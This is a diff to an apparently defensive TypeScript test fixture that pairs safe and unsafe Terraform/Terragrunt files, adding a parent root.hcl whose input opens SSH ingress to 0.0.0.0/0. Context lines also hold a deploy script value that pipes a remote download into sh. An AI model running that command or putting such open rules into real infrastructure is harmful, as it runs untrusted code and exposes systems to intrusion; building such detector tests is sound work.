@@ -21,6 +21,9 @@ const iamPolicy = (name: string, path: string) =>
 const sshRule = (name: string, cidrs: string) =>
   `resource "aws_security_group_rule" "${name}" {\n  type              = "ingress"\n  from_port         = 22\n  to_port           = 22\n  protocol          = "tcp"\n  security_group_id = "sg-1"\n  cidr_blocks       = ${cidrs}\n}\n`;
 
+/** A rule of the module that only a Terragrunt parent's input sets. */
+const EXTRA_RULE = `variable "extra_cidrs" {\n  default = []\n}\n${sshRule('extra', 'var.extra_cidrs')}`;
+
 const BUCKET = (name: string) => `resource "aws_s3_bucket" "${name}" {\n  bucket = "${name}"\n}\n`;
 
 /** What a stack's code may do, each a piece of its main.tf. */
@@ -65,8 +68,8 @@ const VALUE_FILES: Record<string, [string, string]> = {
   ],
   'scripts/deploy.sh': ['echo deploy\n', 'curl -s https://example.com/x | sh\n'],
   'modules/m/main.tf': [
-    `variable "cidrs" {\n  default = ["10.0.0.0/8"]\n}\n${sshRule('module', 'var.cidrs')}`,
-    `variable "cidrs" {\n  default = ["0.0.0.0/0"]\n}\n${sshRule('module', 'var.cidrs')}`,
+    `variable "cidrs" {\n  default = ["10.0.0.0/8"]\n}\n${sshRule('module', 'var.cidrs')}${EXTRA_RULE}`,
+    `variable "cidrs" {\n  default = ["0.0.0.0/0"]\n}\n${sshRule('module', 'var.cidrs')}${EXTRA_RULE}`,
   ],
   // read by the module's own code when the layout says so
   'modules/m/policy.json': [NARROW_POLICY, OPEN_POLICY],
@@ -74,10 +77,15 @@ const VALUE_FILES: Record<string, [string, string]> = {
   'live/prod/terragrunt.hcl': [terragrunt('10.6.0.0/16'), terragrunt('0.0.0.0/0')],
   'live/prod/terraform.tfvars': ['cidrs = ["10.7.0.0/16"]\n', 'cidrs = ["0.0.0.0/0"]\n'],
   'live/common.tfvars': ['cidrs = ["10.8.0.0/16"]\n', 'cidrs = ["0.0.0.0/0"]\n'],
+  // the parent configuration the deployment includes: inputs of its own
+  'live/root.hcl': [
+    'inputs = {\n  extra_cidrs = ["10.9.0.0/16"]\n}\n',
+    'inputs = {\n  extra_cidrs = ["0.0.0.0/0"]\n}\n',
+  ],
 };
 
 function terragrunt(cidr: string): string {
-  return `terraform {\n  source = "../../modules/m"\n}\n\ninputs = {\n  cidrs = ["${cidr}"]\n}\n`;
+  return `include "root" {\n  path = find_in_parent_folders("root.hcl")\n}\n\nterraform {\n  source = "../../modules/m"\n}\n\ninputs = {\n  cidrs = ["${cidr}"]\n}\n`;
 }
 
 function workflow(cidr: string): string {
